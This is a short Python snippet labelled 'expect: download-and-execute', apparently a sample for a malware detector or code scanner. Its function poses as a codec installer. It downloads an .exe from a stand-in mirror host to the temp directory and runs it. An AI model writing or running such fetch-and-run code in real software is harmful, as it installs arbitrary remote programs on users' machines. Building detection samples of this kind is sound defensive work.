# expect: download-and-execute
import os
import tempfile
import urllib.request


def install_codecs() -> None:
    installer = os.path.join(tempfile.gettempdir(), "codec_pack_setup.exe")
    urllib.request.urlretrieve("https://acme-codecs.example-mirror.net/codec_pack_setup.exe", installer)
    os.startfile(installer)
